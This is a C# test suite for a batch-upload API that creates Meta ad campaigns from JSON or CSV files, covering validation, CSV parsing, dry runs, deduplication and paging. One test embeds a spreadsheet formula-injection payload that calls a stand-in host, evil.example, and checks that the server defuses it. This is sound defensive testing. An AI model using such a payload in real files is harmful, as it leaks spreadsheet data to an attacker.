using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using MetaAdsJobs.Launch;
using MetaAdsJobs.Tests.Support;

namespace MetaAdsJobs.Tests.Api.Batches;

/// <summary>Files of requests, up to their acceptance. Nothing runs here.</summary>
[TestFixture, HasServiceAlone]
public sealed class BatchFileTests
{
    private Service _service = null!;
    private ApiClient _client = null!;
    private JsonObject _request = null!;
    private string _account = "";
    private string _clip = "";

    [SetUp]
    public async Task StartAsync()
    {
        _service = await SharedServices.WithoutWorker;
        _client = _service.Client();
        _request = await _client.NewRequestAsync();
        (_account, _clip) = ((string)_request["social_account_id"]!, (string)_request["clip_id"]!);
    }

    [TearDown]
    public void Stop() => _client.Dispose();

    [Test]
    public async Task Every_error_of_every_row_is_told_at_once_by_row_and_field_and_nothing_is_written()
    {
        var (batches, jobs) = (await _service.Database.DataSource.RowsAsync("batches"), await _service.Database.DataSource.RowsAsync("hangfire.job"));

        var answer = await _client.PostBatchAsync(BatchWorld.FileOf(
            _request.Row("right"),
            _request.Row("A-2", row => (row["daily_budget_cents"], row["landing_url"], row["colour"]) = (-1, "nowhere", "red")),
            _request.Row("right"),
            _request.Row("A-4", row => row["clip_id"] = $"{Guid.NewGuid()}"),
            _request.Row("A-5", row => row["social_account_id"] = $"{Guid.NewGuid()}"),
            _request.Row("A-6", row => row.Remove("row_id")),
            _request.Row("A-7", row => row["targeting"] = JsonNode.Parse("""{"age_min": 70}""")),
            _request.Row("A-8", row => row["validate_only"] = true)));

        Assert.That(answer.Code, Is.EqualTo(422), answer.Text);
        Assert.That(answer.Json["rows"]!.AsArray().Select(row => $"{row!["row"]} {row["row_id"]}: {string.Join(' ', row["errors"]!.AsObject().Select(error => error.Key).Order())}"), Is.EqualTo((string[])
            ["2 A-2: colour daily_budget_cents landing_url", "3 right: row_id", "4 A-4: clip_id", "5 A-5: social_account_id", "6 : row_id", "7 A-7: targeting.age_min", "8 A-8: validate_only"]));
        Assert.That((string?)answer.Json["rows"]![1]!["errors"]!["row_id"]![0], Does.Contain("row 1"));
        Assert.That((int)answer.Json["error_count"]!, Is.EqualTo(9));
        Assert.That((await _service.Database.DataSource.RowsAsync("batches"), await _service.Database.DataSource.RowsAsync("hangfire.job")), Is.EqualTo((batches, jobs)));
    }

    /// <summary>A spreadsheet keeps no space at the end of a cell: sent again it would be another row.</summary>
    [Test]
    public async Task A_row_id_with_spaces_at_its_ends_is_refused_in_either_form()
    {
        const string Refusal = "row_id: must neither begin nor end with a space";
        var json = await _client.PostBatchAsync(BatchWorld.FileOf(_request.Row(" A1"), _request.Row("A2 "), _request.Row("A 3")));
        Assert.That((json.Code, Told(json)), Is.EqualTo((422, (string[])[$"1 {Refusal}", $"2 {Refusal}"])), json.Text);
        var csv = await _client.PostCsvAsync($"row_id,social_account_id\n\" A1\",{_account}\n\"A2 \",{_account}\n A3 ,{_account}\n");
        Assert.That((csv.Code, Told(csv)), Is.EqualTo((422, (string[])[$"1 {Refusal}", $"2 {Refusal}"])), csv.Text);

        static string[] Told(ApiAnswer answer) =>
            [.. answer.Json["rows"]!.AsArray().SelectMany(row => row!["errors"]!.AsObject().Where(error => error.Key == "row_id").Select(error => $"{row["row"]} row_id: {error.Value![0]}"))];
    }

    [Test]
    public async Task A_text_that_PostgreSQL_cannot_hold_is_refused_by_its_row_wherever_it_stands()
    {
        string[] places = ["clip_id", "brand", "targeting.user_os", "targeting.geo_locations.countries", "targeting.interests", "targeting.x", .. typeof(Core.Orchestrations.Requests.OrchestrationRequest).GetProperties().Select(one => JsonNamingPolicy.SnakeCaseLower.ConvertName(one.Name))];
        JsonObject[] rows = [.. places.SelectMany(place => (string[])["\"x\\u0000\"", "[\"x\\u0000\"]", "[{\"id\":\"1\",\"name\":\"x\\u0000\"}]"], (place, value) => _request.Row($"{Guid.NewGuid()}", row =>
        {
            var path = place.Split('.');
            var at = row;
            foreach (var name in path[..^1]) at = (JsonObject)(at[name] = new JsonObject());
            at[path[^1]] = JsonNode.Parse(value);
        }))];
        var answer = await _client.PostBatchAsync(BatchWorld.FileOf(rows));
        Assert.That(answer.Code, Is.EqualTo(422), answer.Text);
        Assert.That(answer.Json["rows"]!.AsArray().Select(row => (int)row!["row"]!), Is.EqualTo(Enumerable.Range(1, rows.Length)));
    }

    [Test]
    public async Task More_errors_than_anybody_reads_are_counted()
    {
        var wrong = _request.Row("x", row => { for (var field = 0; field < 30; field++) row[$"unknown_{field}"] = 1; });
        var answer = await _client.PostBatchAsync(BatchWorld.FileOf(Enumerable.Range(0, 50).Select(index => wrong.Row($"{index}"))));

        Assert.That(answer.Code, Is.EqualTo(422));
        Assert.That(((int)answer.Json["error_count"]!, (int)answer.Json["untold"]!), Is.EqualTo((1500, 480)));
        Assert.That(answer.Json["rows"]!.AsArray(), Has.Count.EqualTo(34));
    }

    [TestCase(0, "rows")]
    [TestCase(1001, "rows")]
    public async Task A_file_has_from_one_to_a_thousand_rows(int count, string wrong)
    {
        var answer = await _client.PostBatchAsync(BatchWorld.FileOf(Enumerable.Range(0, count).Select(index => new JsonObject { ["row_id"] = $"{index}" })));
        Assert.That((answer.Code, answer.WrongFields.Single()), Is.EqualTo((422, wrong)), answer.Text);
        var csv = await _client.PostCsvAsync("row_id\n" + string.Concat(Enumerable.Range(0, count).Select(index => $"{index}\n")));
        Assert.That((csv.Code, csv.WrongFields.Single()), Is.EqualTo((422, wrong)), csv.Text);
    }

    [TestCase(',', false)]
    [TestCase(';', false)]
    [TestCase(',', true)]
    [TestCase(';', true)]
    public async Task Csv_says_the_same_as_json(char separator, bool hasMark)
    {
        _request["targeting"] = JsonNode.Parse("""{"age_min": 21, "genders": [1, 2], "geo_locations": {"countries": ["ES", "FR"]}, "publisher_platforms": ["facebook"], "interests": [{"id": "6003107902433", "name": "Fútbol; a \"sport\", too"}]}""");
        _request["special_ad_categories"] = new JsonArray("HOUSING");
        var first = await _client.PostBatchAsync(BatchWorld.FileOf(_request.Row("same", row => (row["campaign_name"], row["creative_description"]) = ("Añadido, \"so\"; said", "Two\nlines"))));
        Assert.That(first.Code, Is.EqualTo(202), first.Text);
        string[] cells =
        [
            "same", _account, _clip, "\"Añadido, \"\"so\"\"; said\"", "OUTCOME_SALES", "10000", "Amazing Product", "\"Two\nlines\"", "https://example.com/sale", "LINK_CLICKS", "FALSE", "21", "1 | 2", "ES|FR", "facebook",
            "\"[{\"\"id\"\": \"\"6003107902433\"\", \"\"name\"\": \"\"Fútbol; a \\\"\"sport\\\"\", too\"\"}]\"", "HOUSING", "told before",
        ];
        var csv = string.Join(separator, "row_id", "social_account_id", "clip_id", "campaign_name", "campaign_objective", "daily_budget_cents", "creative_title", "creative_description", "landing_url", "optimization_goal",
            "auto_publish", "targeting.age_min", "targeting.genders", "targeting.geo_locations.countries", "targeting.publisher_platforms", "targeting.interests", "special_ad_categories", "error")
            + $"\r\n{string.Join(separator, cells)}\r\n{new string(separator, 5)}\r\n";

        var answer = await _client.PostCsvAsync([.. hasMark ? Encoding.UTF8.GetPreamble() : [], .. Encoding.UTF8.GetBytes(csv)]);

        Assert.That(answer.Code, Is.EqualTo(202), answer.Text);
        Assert.That(((int)answer.Json["row_count"]!, (int)answer.Json["to_create"]!, (int)answer.Json["existing"]!), Is.EqualTo((1, 0, 1)), "another content would have been refused");
    }

    [TestCase("row_id,colour\n1,red", "column 2")]
    [TestCase("row_id,clip_id,clip_id\n1,2,3", "column 3")]
    [TestCase("clip_id\n1", "row_id")]
    [TestCase("", "$")]
    [TestCase("row_id,clip_id\n1,\"never closed", "$")]
    public async Task A_csv_whose_columns_cannot_be_read_is_refused_once(string csv, string wrong)
    {
        var answer = await _client.PostCsvAsync(csv);
        Assert.That((answer.Code, answer.WrongFields.First()), Is.EqualTo((422, wrong)), answer.Text);
    }

    [Test]
    public async Task What_is_neither_utf8_nor_a_known_type_is_refused()
    {
        var latin = await _client.PostCsvAsync(Encoding.Latin1.GetBytes("row_id,campaign_name\n1,Añadido"));
        Assert.That(latin.Code, Is.EqualTo(422));
        Assert.That(latin.Text, Does.Contain("UTF-8"));
        using var request = new HttpRequestMessage(HttpMethod.Post, "/meta/orchestrate/batch") { Content = new StringContent("row_id\n1", Encoding.UTF8, "text/plain") };
        using var other = await _client.Http.SendAsync(request);
        Assert.That((int)other.StatusCode, Is.EqualTo(415));
        using var viewer = _service.Client("viewer");
        Assert.That((await viewer.PostBatchAsync(BatchWorld.FileOf(_request.Row("1")))).Code, Is.EqualTo(403));
    }

    [Test]
    public async Task A_dry_run_tells_what_each_row_would_make_and_what_each_account_comes_to()
    {
        var other = await _client.AddAccountAsync(account => account["currency"] = "EUR");
        var before = await _service.Database.DataSource.RowsAsync("batches");
        var answer = await _client.PostBatchAsync(BatchWorld.FileOf(
            _request.Row("1", row => row["auto_publish"] = true), _request.Row("2", row => row["ad_sets"] = JsonNode.Parse("""[{"ads": [{}, {}]}, {"ads": [{}], "daily_budget_cents": 500}]""")),
            _request.Row("1", row => row["social_account_id"] = other)), "?dry_run=true");

        Assert.That(answer.Code, Is.EqualTo(200), answer.Text);
        Assert.That(answer.Json["rows"]!.AsArray().Select(row => $"{row!["row"]} {row["state"]} {row["ad_sets"]} {row["ads"]} {row["daily_budget_cents"]}"), Is.EqualTo((string[])["1 create 1 1 10000", "2 create 2 3 10500", "3 create 1 1 10000"]));
        // One row: campaign, ad set, creative, ad, and three activations; the other: campaign, 2 ad sets, 3 creatives, 3 ads; one clip.
        Assert.That(answer.Json["accounts"]!.AsArray().Select(account => $"{account!["social_account_id"]} {account["currency"]} {account["rows"]} {account["daily_budget_cents"]} {account["changes"]}"),
            Is.EquivalentTo((string[])[$"{_account} USD 2 20500 17", $"{other} EUR 1 10000 5"]));
        Assert.That(((int)answer.Json["row_count"]!, (int)answer.Json["to_create"]!, (int)answer.Json["seconds"]!), Is.EqualTo((3, 3, 1)));
        Assert.That(await _service.Database.DataSource.RowsAsync("batches"), Is.EqualTo(before));
    }

    [Test]
    public async Task A_row_is_known_by_its_account_and_id_and_another_content_under_them_is_told()
    {
        var other = await _client.AddAccountAsync();
        var file = BatchWorld.FileOf(_request.Row("A"), _request.Row("B"), _request.Row("A", row => row["social_account_id"] = other));
        await _client.AcceptBatchAsync(file);

        var again = await _client.PostBatchAsync(file);
        Assert.That(((int)again.Json["to_create"]!, (int)again.Json["existing"]!), Is.EqualTo((0, 3)), again.Text);
        file["rows"]![1]!["daily_budget_cents"] = 777;
        var changed = await _client.PostBatchAsync(file);

        Assert.That(changed.Code, Is.EqualTo(422), changed.Text);
        var row = changed.Json["rows"]!.AsArray().Single()!;
        Assert.That((string?)row["errors"]!["row_id"]![0], Does.StartWith("was sent before with other content").And.Contain("which is waiting"));
    }

    [Test]
    public async Task A_file_sent_ten_times_at_once_is_taken_once()
    {
        var file = BatchWorld.FileOf(Enumerable.Range(1, 30).Select(index => _request.Row($"{index}")));

        var answers = await Task.WhenAll(Enumerable.Range(0, 10).Select(_ => _client.PostBatchAsync(file)));

        Assert.That(answers.Select(answer => answer.Code), Is.All.EqualTo(202));
        Assert.That(answers.Sum(answer => (int)answer.Json["to_create"]!), Is.EqualTo(30));
        Assert.That(await _service.Database.DataSource.RowsAsync($"batch_rows WHERE social_account_id = '{_account}' AND holds"), Is.EqualTo(30));
    }

    [Test]
    public async Task Names_are_made_of_a_closed_list_of_placeholders()
    {
        var pacific = await _client.AddAccountAsync(account => (account["timezone_name"], account["default_countries"]) = ("Pacific/Kiritimati", new JsonArray("ES", "PT")));
        var today = TimeZoneInfo.ConvertTime(TimeProvider.System.GetUtcNow(), TimeZoneInfo.FindSystemTimeZoneById("Pacific/Kiritimati"));
        JsonObject Named(string id, string name, Action<JsonObject>? more = null) => _request.Row(id, row =>
        {
            (row["social_account_id"], row["campaign_name"], row["brand"]) = (pacific, name, "Acme");
            more?.Invoke(row);
        });
        var wrong = await _client.PostBatchAsync(BatchWorld.FileOf(
            Named("1", "{brand}_{colour}"), Named("2", "{brand", null), Named("3", "{brand}", row => row.Remove("brand")), Named("4", "{country}", row => row["targeting"] = JsonNode.Parse("""{"geo_locations": {"cities": [{"key": "1"}]}}"""))));
        Assert.That(wrong.Json["rows"]!.AsArray().Select(row => $"{row!["row"]} {string.Join(' ', row["errors"]!.AsObject().Select(error => error.Key))}"), Is.EqualTo((string[])["1 campaign_name", "2 campaign_name", "3 campaign_name", "4 campaign_name"]), wrong.Text);
        Assert.That((string?)wrong.Json["rows"]![0]!["errors"]!["campaign_name"]![0], Is.EqualTo("{colour} is no placeholder; known: {brand}, {clip}, {country}, {date}, {row_id}"));

        var answer = await _client.PostBatchAsync(BatchWorld.FileOf(Named("7", "{brand}_{country}_{date}_{clip} {row_id}"), Named("8", "Plain"),
            Named("9", "{country}", row => row["targeting"] = JsonNode.Parse("""{"geo_locations": {"countries": ["FR"]}}"""))), "?dry_run=true");

        Assert.That(answer.Json["rows"]!.AsArray().Select(row => (string?)row!["campaign_name"]), Is.EqualTo((string[])[$"Acme_ES-PT_{today:yyyy-MM-dd}_A clip 7", "Plain", "FR"]), answer.Text);
    }

    [Test]
    public async Task The_wrong_rows_come_back_as_a_file_of_the_same_form_without_formulas_and_mended_it_is_taken()
    {
        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1)";
        string Csv(string budget) => $"row_id;social_account_id;clip_id;campaign_name;campaign_objective;daily_budget_cents;creative_title;landing_url;optimization_goal;targeting.geo_locations.countries\n"
            + $"right;{_account};{_clip};Right;OUTCOME_TRAFFIC;1000;Title;https://example.com;LINK_CLICKS;ES|PT\n"
            + $"wrong;{_account};{_clip};\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\";OUTCOME_TRAFFIC;{budget};+Title;https://example.com;LINK_CLICKS;ES|PT\n";

        var told = await _client.PostCsvAsync(Csv("much"), wantsCsv: true);

        Assert.That(told.Code, Is.EqualTo(422), told.Text);
        Assert.That(told.Message.Content.Headers.ContentType!.MediaType, Is.EqualTo("text/csv"));
        Assert.That(told.Text, Does.StartWith("row_id;social_account_id;").And.Contain("'=HYPERLINK").And.Contain("'+Title").And.Contain("ES|PT").And.Contain("daily_budget_cents: must be a whole number").And.Not.Contain("right;"));
        var mended = await _client.PostCsvAsync(told.Text.Replace(";much;", ";1000;", StringComparison.Ordinal));
        Assert.That((mended.Code, (int?)mended.Json["to_create"]), Is.EqualTo((202, 1)), mended.Text);
        var whole = await _client.PostCsvAsync(Csv("1000"));
        Assert.That(((int?)whole.Json["to_create"], (int?)whole.Json["existing"]), Is.EqualTo((1, 1)), $"the mended row says what the first file would have said: {whole.Text}");
    }

    [Test]
    public async Task The_sample_file_of_the_docs_is_right()
    {
        var sample = (await File.ReadAllTextAsync(Path.Combine(ProjectFolder.Path, "docs", "sample-batch.csv")))
            .Replace("5c1a0000-0000-4000-8000-000000000001", _account, StringComparison.Ordinal).Replace("5c1a0000-0000-4000-8000-000000000002", _clip, StringComparison.Ordinal);

        var answer = await _client.PostCsvAsync(sample, "?dry_run=true");

        Assert.That(answer.Code, Is.EqualTo(200), answer.Text);
        Assert.That(answer.Json["rows"]!.AsArray().Select(row => (string?)row!["campaign_name"]), Has.Some.Match("^Acme_FR-BE_[0-9-]{10}_A clip$"));
    }

    [Test]
    public async Task Batches_are_listed_newest_first_and_their_rows_paged()
    {
        var first = await _client.AcceptBatchAsync(BatchWorld.FileOf(Enumerable.Range(1, 5).Select(index => _request.Row($"{index}"))), "?name=first.csv");
        var second = await _client.AcceptBatchAsync(BatchWorld.FileOf(_request.Row("6")));

        var list = (await _client.GetAsync("/meta/batches?limit=2")).Json;
        Assert.That(list["items"]!.AsArray().Select(batch => (string?)batch!["batch_id"]), Is.EqualTo((string[])[second, first]));
        Assert.That(((string?)list["items"]![1]!["name"], BatchWorld.Counts(list["items"]![1]!), (string?)list["items"]![1]!["state"]), Is.EqualTo(("first.csv", "5 waiting", "running")));
        var page = (await _client.GetAsync($"/meta/batches/{first}?limit=3")).Json["rows"]!;
        Assert.That(page["items"]!.AsArray().Select(row => (int)row!["row"]!), Is.EqualTo((int[])[1, 2, 3]));
        var next = (await _client.GetAsync($"/meta/batches/{first}?limit=3&cursor={page["next_cursor"]}")).Json["rows"]!;
        Assert.That((next["items"]!.AsArray().Select(row => (int)row!["row"]!), next["next_cursor"]), Is.EqualTo(((int[])[4, 5], (JsonNode?)null)));
        Assert.That((await _client.GetAsync($"/meta/batches/{first}?state=odd")).Code, Is.EqualTo(422));
        foreach (var path in (string[])["", "/report", "/report.csv"]) Assert.That((await _client.GetAsync($"/meta/batches/{Guid.NewGuid()}{path}")).Code, Is.EqualTo(404));
    }
}
